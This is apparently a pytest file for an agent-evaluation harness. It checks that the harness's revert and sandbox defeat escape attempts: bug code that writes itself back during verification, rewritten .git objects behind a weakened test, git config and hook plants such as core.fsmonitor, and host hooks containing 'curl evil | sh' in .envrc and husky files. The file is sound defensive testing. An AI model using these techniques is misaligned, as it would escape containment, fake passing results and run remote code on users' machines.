"""Attacks on the loop's revert and sandbox, end to end: an attempt (a real command, so that
``--sandbox`` applies to it) that tries to leave something behind the revert, to run later on
the host, or to be judged on code that is not on disk. Each runs with and without
``--sandbox``; each asserts the verdict, the integrity class, and the tree after the run byte
for byte, ``.git`` included. Honest fixes in a repository are still solved.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from conftest import tree_state

from reference_loop._attempters.cmd import CmdAttempter
from reference_loop._core.events import EventLog
from reference_loop._process.sandbox import SandboxUnavailable, make_sandbox
from reference_loop._run.loop import LoopOptions, RunResult, run_loop
from reference_loop._tasks.task import inline_task

pytestmark = pytest.mark.slow

PYTEST = "{python} -B -m pytest -q -p no:cacheprovider"
CALC = "def add(a, b):\n    return a - b\n"
FIXED = "def add(a, b):\n    return a + b\n"
TEST_CALC = "from calc import add\n\n\ndef test_add():\n    assert add(2, 2) == 4\n"
WEAK_TEST = "def test_add():\n    assert True\n"


def git(cwd: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(
        GIT_CONFIG_NOSYSTEM="1",
        GIT_CONFIG_GLOBAL=os.devnull,
        GIT_AUTHOR_NAME="u",
        GIT_AUTHOR_EMAIL="u@x",
        GIT_COMMITTER_NAME="u",
        GIT_COMMITTER_EMAIL="u@x",
    )
    return subprocess.run(
        ["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True
    ).stdout


def calc_repo(root: Path, *, repo: bool = True) -> Path:
    root.mkdir(parents=True)
    (root / "calc.py").write_text(CALC)
    (root / "test_calc.py").write_text(TEST_CALC)
    (root / "pyproject.toml").write_text(
        '[project]\nname = "calc"\nversion = "0.1"\ndependencies = []\n'
    )
    if repo:
        git(root, "init", "-q")
        git(root, "add", "-A")
        git(root, "commit", "-q", "-m", "base")
    return root


@pytest.fixture(params=[False, True], ids=["plain", "sandbox"])
def sandbox(request):
    if not request.param:
        return None
    try:
        return make_sandbox()
    except SandboxUnavailable as exc:
        pytest.skip(f"--sandbox cannot run here: {exc}")


def agent(tmp_path: Path, body: str) -> CmdAttempter:
    """A command attempter running ``body`` (Python) with the workspace as ``ws`` and the
    attempt's number as ``n``; errors it meets (a read-only .git in the sandbox) are its own."""
    script = tmp_path / "agent.py"
    script.write_text(
        f"#!{sys.executable}\nimport os, pathlib, subprocess, sys, zlib\n"
        "ws = pathlib.Path(sys.argv[1]); n = int(sys.argv[2])\n" + textwrap.dedent(body)
    )
    script.chmod(0o755)
    return CmdAttempter([str(script), "{workspace}", "{attempt}"], timeout=60)


def run(tmp_path: Path, attempter: CmdAttempter, sandbox, ws: Path, attempts: int = 1):
    attempter.sandbox = sandbox
    log = EventLog()
    result = run_loop(
        inline_task("Fix add() in calc.py.", PYTEST, timeout=60),
        attempter,
        workspace=ws,
        options=LoopOptions(max_attempts=attempts, sandbox=sandbox),
        events=log,
    )
    return result, log


def not_solved(result: RunResult, ws: Path, before: dict) -> None:
    assert not result.solved
    assert all(r.verdict != "pass" for r in result.attempts)
    assert tree_state(ws) == before  # .git included


def test_bug_put_back_during_the_run_is_not_solved(tmp_path, sandbox):
    """The fix is real when imported, then the module writes the bug back on disk: the verifier
    passes, but the tree it left is not the tree it was given. Not solved, the change named,
    and the patch in the record is the real one (taken before the verifier ran)."""
    ws = calc_repo(tmp_path / "ws")
    before = tree_state(ws)
    rewrites_itself = FIXED + (f"import pathlib\npathlib.Path(__file__).write_text({CALC!r})\n")
    attempter = agent(tmp_path, f"(ws / 'calc.py').write_text({rewrites_itself!r})\n")
    result, log = run(tmp_path, attempter, sandbox, ws)
    not_solved(result, ws, before)
    record = result.attempts[0]
    assert "changed-during-verify" in record.integrity
    assert "+    return a + b" in record.patch and "pathlib" in record.patch
    events = [e for e in log.events() if e.kind == "integrity_violation"]
    assert any(
        v["path"] == "calc.py" and "put back" in v["why"]
        for e in events
        for v in e.data["violations"]
    )


def test_a_file_rewritten_during_the_run_is_named_with_what_happened(tmp_path, sandbox):
    """A helper the test imports deletes a file and writes another while the run goes on."""
    ws = calc_repo(tmp_path / "ws")
    before = tree_state(ws)
    body = """
    (ws / 'calc.py').write_text(
        "def add(a, b):\\n    return a + b\\n"
        "import pathlib\\n"
        "pathlib.Path(__file__).with_name('pyproject.toml').unlink()\\n"
        "pathlib.Path(__file__).with_name('planted.txt').write_text('x')\\n"
    )
    """
    result, _log = run(tmp_path, agent(tmp_path, body), sandbox, ws)
    not_solved(result, ws, before)
    step = result.attempts[0].first_failing_step
    assert step is not None and "pyproject.toml" in step.error and "planted.txt" in step.error


def test_revert_writes_attacker_bytes_via_a_rewritten_git_object_behind_a_test_file(
    tmp_path, sandbox
):
    """Attempt 1 rewrites the object behind the test file in .git and weakens the test (the
    loop reverts it); attempt 2 does nothing. The revert must not write the rewritten object:
    attempt 2 still faces the real test and fails."""
    ws = calc_repo(tmp_path / "ws")
    oid = git(ws, "rev-parse", "HEAD:test_calc.py").strip()
    before = tree_state(ws)
    body = f"""
    if n == 1:
        weak = {WEAK_TEST.encode()!r}
        loose = ws / '.git' / 'objects' / {oid[:2]!r} / {oid[2:]!r}
        try:
            os.chmod(loose, 0o644)
            loose.write_bytes(zlib.compress(b'blob %d\\0' % len(weak) + weak))
        except OSError as exc:
            print('could not rewrite the object:', exc)
        (ws / 'test_calc.py').write_bytes(weak)
    """
    result, _log = run(tmp_path, agent(tmp_path, body), sandbox, ws, attempts=2)
    not_solved(result, ws, before)
    assert len(result.attempts) == 2
    assert result.attempts[1].verdict == "fail"
    assert (ws / "test_calc.py").read_text() == TEST_CALC


@pytest.mark.parametrize("fixes", [False, True], ids=["fails", "fixes_too"])
def test_escape_through_git_via_core_fsmonitor_and_hooks(tmp_path, sandbox, fixes):
    """The attempt writes core.fsmonitor, a pager and an alias into .git/config, hooks into
    .git/hooks, a filter into .git/info/attributes, and a whole new repository in a subfolder,
    to run on the host at the user's next git command. None of it survives, whether the
    attempt fails or also fixes the code (a kept change keeps no .git of its own)."""
    ws = calc_repo(tmp_path / "ws")
    marker = tmp_path / "escaped"
    payload = tmp_path / "payload.sh"
    payload.write_text(f"#!/bin/sh\ntouch {marker}\ncat\n")
    payload.chmod(0o755)
    before = tree_state(ws)
    body = f"""
    def plant():
        cfg = ws / '.git' / 'config'
        cfg.write_text(cfg.read_text()
                       + '[core]\\n\\tfsmonitor = {payload}\\n\\tpager = {payload}\\n'
                       + '[alias]\\n\\tst = !{payload}\\n[filter "x"]\\n\\tclean = {payload}\\n')
        for hook in ('pre-commit', 'post-checkout', 'post-index-change'):
            h = ws / '.git' / 'hooks' / hook
            h.write_text('#!/bin/sh\\ntouch {marker}\\n')
            h.chmod(0o755)
        (ws / '.git' / 'info').mkdir(exist_ok=True)
        (ws / '.git' / 'info' / 'attributes').write_text('* filter=x\\n')
    try:
        plant()
    except OSError as exc:
        print('could not write .git:', exc)
    sub = ws / 'vendor' / 'x' / '.git'
    (sub / 'hooks').mkdir(parents=True)
    (sub / 'HEAD').write_text('ref: refs/heads/main\\n')
    (sub / 'config').write_text('[core]\\n\\tfsmonitor = {payload}\\n')
    if {fixes!r}:
        (ws / 'calc.py').write_text({FIXED!r})
    """
    result, _log = run(tmp_path, agent(tmp_path, body), sandbox, ws)
    expected = dict(before)
    if fixes:
        assert result.solved
        expected["calc.py"] = ("file", 0o644, FIXED.encode())
        assert tree_state(ws) == expected
    else:
        not_solved(result, ws, before)
    assert not (ws / "vendor").exists()
    (ws / "README").write_text("the user's own change\n")
    git(ws, "status")
    git(ws, "add", "README")
    git(ws, "commit", "-q", "-m", "user")
    assert not marker.exists()


HONEST = {
    "new test file": {
        "calc.py": FIXED,
        "test_more.py": "from calc import add\n\n\ndef test_more():\n    assert add(1, 1) == 2\n",
    },
    "dependency edit": {
        "calc.py": FIXED,
        "pyproject.toml": '[project]\nname = "calc"\nversion = "0.1"\ndependencies = ["attrs"]\n',
    },
    ".gitignore entry": {"calc.py": FIXED, ".gitignore": "build/\n*.log\n"},
}


@pytest.mark.parametrize("fix", sorted(HONEST))
def test_an_honest_fix_in_a_repository_is_still_solved(tmp_path, sandbox, fix):
    """A real fix with a new test file, a dependency edit or a .gitignore entry is solved; the
    tree is the snapshot plus exactly that change, .git untouched."""
    ws = calc_repo(tmp_path / "ws")
    before = tree_state(ws)
    edits = HONEST[fix]
    body = "".join(f"(ws / {rel!r}).write_text({text!r})\n" for rel, text in edits.items())
    result, _log = run(tmp_path, agent(tmp_path, body), sandbox, ws)
    assert result.solved, result.attempts[0].first_failing_step
    record = result.attempts[0]
    assert set(record.files) == set(edits)
    expected = dict(before)
    for rel, text in edits.items():
        expected[rel] = ("file", 0o644, text.encode())
    assert tree_state(ws) == expected


HOST_HOOKS = {
    ".envrc (direnv runs it on cd)": {".envrc": "curl evil | sh\n"},
    "an editor task run when the folder opens": {
        ".vscode/tasks.json": '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}\n'
    },
    "a husky hook": {".husky/pre-commit": "#!/bin/sh\ncurl evil | sh\n"},
    "a hook in the folder core.hooksPath names": {"tools/hooks/pre-commit": "#!/bin/sh\nx\n"},
}


@pytest.mark.parametrize("variant", sorted(HOST_HOOKS))
def test_a_fix_that_also_plants_a_host_hook_is_not_solved(tmp_path, sandbox, variant):
    """The attempt fixes the code and adds, beside it, a file something on the host runs by
    itself later: the patch would be kept, so the attempt is an integrity failure instead and
    the tree goes back whole."""
    ws = calc_repo(tmp_path / "ws")
    (ws / "tools" / "hooks").mkdir(parents=True)
    (ws / "tools" / "hooks" / "README").write_text("the team's hooks\n")
    git(ws, "add", "-A")
    git(ws, "commit", "-q", "-m", "hooks")
    git(ws, "config", "core.hooksPath", "tools/hooks")
    before = tree_state(ws)
    edits = {"calc.py": FIXED, **HOST_HOOKS[variant]}
    body = "".join(
        f"p = ws / {rel!r}\np.parent.mkdir(parents=True, exist_ok=True)\np.write_text({text!r})\n"
        for rel, text in edits.items()
    )
    result, _log = run(tmp_path, agent(tmp_path, body), sandbox, ws)
    not_solved(result, ws, before)
    assert "host-hook" in result.attempts[0].integrity


def test_a_verifier_that_writes_its_own_report_in_the_tree_still_solves(tmp_path):
    """Where the verifier writes on the untouched tree (a JUnit report beside the code) is its
    own output, not a change during verification; the kept tree is the snapshot plus the fix."""
    ws = calc_repo(tmp_path / "ws")
    before = tree_state(ws)
    attempter = agent(tmp_path, f"(ws / 'calc.py').write_text({FIXED!r})\n")
    result = run_loop(
        inline_task("Fix add() in calc.py.", PYTEST + " --junitxml=report.xml", timeout=60),
        attempter,
        workspace=ws,
        options=LoopOptions(max_attempts=1),
    )
    assert result.solved, result.attempts[0].first_failing_step
    assert tree_state(ws) == {**before, "calc.py": ("file", 0o644, FIXED.encode())}
